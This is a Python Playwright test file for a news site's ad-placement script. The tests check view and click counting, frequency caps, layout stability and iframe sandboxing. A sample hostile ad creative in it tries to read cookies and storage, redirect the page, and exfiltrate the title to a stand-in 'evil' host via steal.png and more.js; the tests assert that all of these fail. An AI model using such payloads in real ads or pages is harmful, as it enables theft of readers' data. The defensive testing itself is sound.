"""Places for campaigns in a browser: nothing moves, what is seen counts, adverts are shut in."""

import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route

from tests.house.running import House, running_house, wait_until

pytestmark = pytest.mark.browser

READER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0"
LARGEST_SCRIPT = 4096
LONG = "Акціонерне товариство «Українська залізниця, вагони та перевезення пасажирів»"
HOSTILE = """
<p id=ad>Hostile</p>
<script>
const found = {};
const attempt = (name, act) => {
  try { found[name] = String(act()); } catch (error) { found[name] = "refused: " + error.name; }
};
attempt("page", () => parent.document.title);
attempt("rewrite", () => { parent.document.body.innerHTML = "taken"; return "done"; });
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.getItem("secret"));
attempt("indexed", () => { indexedDB.open("x"); return "done"; });
attempt("frame", () => frameElement === null ? "refused: none" : "found");
attempt("lead", () => { top.location.href = "{{evil}}/"; return "asked"; });
attempt("worker", () => { navigator.serviceWorker.register("/sw.js"); return "done"; });
attempt("dialogue", () => { alert("taken"); return "done"; });
attempt("origin", () => self.origin);
const form = document.createElement("form");
form.action = "/-/count"; form.method = "post"; document.body.append(form);
attempt("form", () => { form.submit(); return "asked"; });
const loads = [
  fetch("/-/status", { credentials: "include" }).then(() => "answered", () => "refused"),
  fetch("/-/count", { method: "POST", body: "seen/1", mode: "no-cors", credentials: "include" })
    .then(() => "answered", () => "refused"),
  new Promise((done) => {
    const image = new Image();
    image.onload = () => done("answered");
    image.onerror = () => done("refused");
    image.src = "{{evil}}/steal.png?" + document.title;
  }),
  new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("answered");
    script.onerror = () => done("refused");
    script.src = "{{evil}}/more.js";
    document.head.append(script);
  }),
];
navigator.sendBeacon("/-/count", "seen/1");
Promise.all(loads).then((results) => {
  found.loads = results.join();
  document.getElementById("ad").textContent = JSON.stringify(found);
});
</script>
"""


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    with running_house(tmp_path_factory.mktemp("places")) as house:
        house.worker.do("clear_campaigns")
        yield house


@dataclass
class Booked:
    """What a test booked: its creatives' ids by heading, and where they are met."""

    ids: dict[str, int]
    path: str


def book(
    house: House, campaigns: list[dict[str, Any]], spot: str = "rail", hosts: tuple[str, ...] = ()
) -> Booked:
    """Put nothing but these campaigns into one place of all pages; wait until readers get them."""
    made = house.worker.do("book_alone", campaigns=campaigns, spot=spot, hosts=list(hosts))
    house.catch_up()
    return Booked(**made)


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(user_agent=READER, viewport={"width": 1440, "height": 400})
    yield context
    context.close()


def opened(house: House, context: BrowserContext, path: str) -> Page:
    """Open a page of the house through its edge, with the shifts of its layout recorded."""
    page = context.new_page()
    page.add_init_script(
        "window.shifts = 0; new PerformanceObserver((list) => {"
        " for (const one of list.getEntries()) window.shifts += one.value;"
        "}).observe({ type: 'layout-shift', buffered: true });"
    )
    page.goto(f"http://localhost:{house.port}{path}")
    return page


class Taker(BaseHTTPRequestHandler):
    """Somebody's server that would gladly take what an advertisement sends it."""

    taken: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.taken.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815  the name that the library looks for

    def log_message(self, *words: object) -> None:
        """Say nothing."""


@pytest.fixture
def evil() -> Iterator[str]:
    """Give the origin of such a server."""
    Taker.taken.clear()
    with HTTPServer(("127.0.0.1", 0), Taker) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def look_at(page: Page, selector: str = ".creative") -> None:
    """Bring a creative into view for as long as it takes to be seen."""
    page.locator(selector).first.scroll_into_view_if_needed()
    page.wait_for_timeout(1400)


def counted(house: House, subject: str) -> int:
    total: int = house.worker.do("total", subject=subject)
    return total


def test_the_script_is_small() -> None:
    import shpalta.press

    folder = Path(shpalta.press.__file__).parent / "static" / "shpalta" / "press"
    assert (folder / "places.js").stat().st_size <= LARGEST_SCRIPT


def test_what_is_seen_for_a_second_is_counted_once_and_a_click_too(
    house: House, context: BrowserContext
) -> None:
    booked = book(house, [{"heading": "Seen", "link": "/date/"}], spot="foot")
    number = booked.ids["Seen"]
    page = opened(house, context, booked.path)
    page.wait_for_timeout(1500)
    assert counted(house, f"seen/{number}") == 0
    look_at(page)
    page.mouse.wheel(0, -5000)
    page.wait_for_timeout(300)
    look_at(page)
    wait_until(lambda: counted(house, f"seen/{number}") >= 1, "it is counted", 15)
    page.locator(".creative .heading a").click()
    page.wait_for_url(re.compile(r"/date/"))
    wait_until(lambda: counted(house, f"click/{number}") >= 1, "the click is counted", 15)
    page.wait_for_timeout(2000)
    assert (counted(house, f"seen/{number}"), counted(house, f"click/{number}")) == (1, 1)


def test_what_flashes_by_is_not_counted(house: House, context: BrowserContext) -> None:
    booked = book(house, [{"heading": "Flash"}], spot="foot")
    page = opened(house, context, booked.path)
    page.locator(".creative").scroll_into_view_if_needed()
    page.wait_for_timeout(500)
    page.mouse.wheel(0, -9000)
    page.wait_for_timeout(3000)
    assert counted(house, f"seen/{booked.ids['Flash']}") == 0


def test_readers_meet_campaigns_by_weight_and_none_more_often_than_it_may(
    house: House, browser: Browser
) -> None:
    booked = book(
        house,
        [
            {"heading": "Rare", "weight": 10, "frequency": 2, "priority": 9},
            {"heading": "Heavy", "weight": 30},
            {"heading": "Light", "weight": 10},
        ],
        spot="banner",
    )
    context = browser.new_context(user_agent=READER, viewport={"width": 1440, "height": 900})
    met = []
    for _ in range(14):
        page = opened(house, context, booked.path)
        page.wait_for_timeout(1300)
        met.append(page.locator(".creative:visible .heading").inner_text())
        page.close()
    page = opened(house, context, booked.path)
    memory = page.evaluate("() => JSON.parse(localStorage.getItem('shpalta-places'))")
    assert memory["day"] == page.evaluate("new Date().toDateString()"), "a day of the reader's"
    context.close()
    assert met[:2] == ["Rare", "Rare"]
    assert "Rare" not in met[2:]
    assert met.count("Heavy") > met.count("Light")
    assert set(memory) == {"day", "seen"}, "no more is remembered than how often, and the day"


@pytest.mark.parametrize(("width", "heading"), [(390, "Phone"), (1440, "Wide")])
@pytest.mark.parametrize("has_script", [True, False])
def test_each_device_sees_what_fits_it_with_and_without_the_script(
    house: House, browser: Browser, width: int, heading: str, has_script: bool
) -> None:
    booked = book(
        house,
        [
            {"heading": "Phone", "devices": ["phone"]},
            {"heading": "Wide", "devices": ["wide"]},
        ],
    )
    context = browser.new_context(
        user_agent=READER,
        viewport={"width": width, "height": 900},
        java_script_enabled=has_script,
    )
    page = context.new_page()
    page.goto(f"http://localhost:{house.port}{booked.path}")
    assert page.locator(".creative:visible .heading").all_inner_texts() == [heading]
    context.close()


@pytest.mark.parametrize("width", [390, 1440])
def test_nothing_moves_whatever_is_drawn(house: House, browser: Browser, width: int) -> None:
    booked = book(
        house,
        [
            {"heading": "Short", "frequency": 1},
            {"heading": "Long " * 20, "advertiser": LONG},
            {"heading": "Sized", "image": [300, 250]},
        ],
        spot="banner",
    )
    context = browser.new_context(user_agent=READER, viewport={"width": width, "height": 900})
    for _ in range(6):
        page = opened(house, context, booked.path)
        page.wait_for_timeout(700)
        assert page.evaluate("() => window.shifts") == 0
        assert page.locator(".place .paid").first.inner_text().startswith("Реклама")
        page.close()
    context.close()


def test_a_reader_without_storage_is_served_all_the_same(
    house: House, context: BrowserContext
) -> None:
    booked = book(house, [{"heading": "Served", "frequency": 3}], spot="banner")
    page = context.new_page()
    page.add_init_script(
        "Object.defineProperty(window, 'localStorage',"
        " { get() { throw new DOMException('no', 'SecurityError'); } });"
    )
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"http://localhost:{house.port}{booked.path}")
    number = booked.ids["Served"]
    wait_until(lambda: counted(house, f"seen/{number}") == 1, "it is counted", 15)
    assert errors == []


def test_who_takes_the_places_out_of_a_page_breaks_nothing(
    house: House, context: BrowserContext
) -> None:
    booked = book(house, [{"heading": "Blocked"}, {"heading": "Other"}], spot="banner")
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.route("**/places*.js", lambda route: route.abort())
    page.goto(f"http://localhost:{house.port}{booked.path}")
    assert page.locator(".creative:visible").count() == 1
    page.unroute("**/places*.js")
    page.add_init_script(
        "new MutationObserver(() => document.querySelectorAll('.place')"
        ".forEach((one) => one.remove()))"
        ".observe(document, { childList: true, subtree: true });"
    )
    page.reload()
    page.wait_for_timeout(1500)
    assert page.locator("h1").first.is_visible()
    assert errors == []


def test_a_hostile_advertisement_reaches_nothing(house: House, browser: Browser, evil: str) -> None:
    html = HOSTILE.replace("{{evil}}", evil)
    booked = book(house, [{"heading": "Hostile", "html": html}], spot="banner")
    context = browser.new_context(user_agent=READER, viewport={"width": 1440, "height": 900})
    origin = f"http://localhost:{house.port}"
    context.add_cookies([{"name": "session", "value": "secret", "url": origin}])
    page = context.new_page()
    page.add_init_script("if (self === top) localStorage.setItem('secret', 'word');")
    dialogues: list[str] = []

    def dismiss(dialogue: Dialog) -> None:
        dialogues.append(dialogue.message)
        dialogue.dismiss()

    page.on("dialog", dismiss)
    page.goto(origin + booked.path)
    title = page.title()
    frame = page.frame_locator(".creative iframe")
    frame.locator("#ad", has_text="loads").wait_for(timeout=15_000)
    found = frame.locator("#ad").inner_text()
    for name in ("page", "rewrite", "cookie", "storage", "indexed", "lead", "frame"):
        assert re.search(rf'"{name}":"refused', found), (name, found)
    assert '"origin":"null"' in found
    assert '"loads":"refused,refused,refused,refused"' in found
    page.wait_for_timeout(1500)
    assert page.title() == title
    assert page.url == origin + booked.path, "the page was not led away"
    assert Taker.taken == [], "nothing left for the advertiser's server"
    assert dialogues == []
    assert page.evaluate("() => [document.cookie, localStorage.getItem('secret')]") == [
        "session=secret",
        "word",
    ]
    assert counted(house, "seen/1") == 0, "it counts nothing for itself"
    context.close()


def test_an_advertisement_opened_by_itself_is_as_shut_in(
    house: House, context: BrowserContext, evil: str
) -> None:
    html = HOSTILE.replace("{{evil}}", evil)
    # By itself it is at the top and its own parent, and may leave as any page may: let it stay.
    html = html.replace("top.location.href", "window.left").replace("parent.document", "({})")
    booked = book(house, [{"heading": "Alone", "html": html}], spot="banner")
    origin = f"http://localhost:{house.port}"
    context.add_cookies([{"name": "session", "value": "secret", "url": origin}])
    page = context.new_page()
    page.goto(origin + booked.path)
    address = page.locator(".creative iframe").get_attribute("src")
    page.goto(f"{origin}{address}")
    page.locator("#ad", has_text="loads").wait_for(timeout=15_000)
    found = page.locator("#ad").inner_text()
    assert '"origin":"null"' in found
    for name in ("cookie", "storage", "indexed"):
        assert re.search(rf'"{name}":"refused', found), (name, found)
    assert '"loads":"refused,refused,refused,refused"' in found


LOADING = """
<p id=ad>nothing</p>
<script>
const load = (src) => new Promise((done) => {
  const script = document.createElement("script");
  script.onload = () => done("ran");
  script.onerror = () => done("blocked");
  script.src = src;
  document.head.append(script);
});
const fetched = (src) => fetch(src).then(() => "answered", () => "blocked");
(async () => {
  const found = [
    await load("https://cdn.named.example/first.js"),
    await load("https://" + "tracker.example/second.js"),
    await fetched("https://" + "tracker.example/beacon"),
  ];
  document.getElementById("ad").textContent = `tried: ${window.first} ${found}`;
})();
</script>
"""


def test_a_script_from_a_host_that_the_placement_does_not_name_is_blocked(
    house: House, context: BrowserContext
) -> None:
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="window.first = 'first';", content_type="text/javascript")

    context.route(re.compile(r"https://.*"), answer)
    campaigns = [{"heading": "Loading", "html": LOADING}]
    booked = book(house, campaigns, spot="banner", hosts=("*.named.example",))
    page = context.new_page()
    page.goto(f"http://localhost:{house.port}{booked.path}")
    said = page.frame_locator(".creative iframe").locator("#ad", has_text="tried").inner_text()
    assert said == "tried: first ran,blocked,blocked"
    assert asked == ["https://cdn.named.example/first.js"]
    # The same HTML where its host is not named is not shown at all.
    booked = book(house, [{"heading": "Loading", "html": LOADING}], "banner", ("other.example",))
    page.goto(f"http://localhost:{house.port}{booked.path}")
    assert page.locator(".creative").count() == 0
    assert len(asked) == 1


def test_a_frame_s_link_is_counted_and_opens_outside_the_sandbox(
    house: House, context: BrowserContext
) -> None:
    html = '<a id="buy" href="{{click}}">Buy</a>'
    booked = book(house, [{"heading": "Frame", "html": html, "link": "/date/"}], spot="banner")
    page = context.new_page()
    page.goto(f"http://localhost:{house.port}{booked.path}")
    with context.expect_page() as opening:
        page.frame_locator(".creative iframe").locator("#buy").click()
    shop = opening.value
    shop.wait_for_url(re.compile(r"/date/"))
    assert shop.evaluate("() => self.origin") == f"http://localhost:{house.port}"
    assert shop.evaluate("() => opener") is None
    number = booked.ids["Frame"]
    wait_until(lambda: counted(house, f"click/{number}") == 1, "the click is counted", 15)


def test_paper_has_no_advertisements(house: House, context: BrowserContext) -> None:
    booked = book(house, [{"heading": "Not on paper"}], spot="banner")
    page = context.new_page()
    page.emulate_media(media="print")
    page.goto(f"http://localhost:{house.port}{booked.path}")
    assert not page.locator(".place").is_visible()
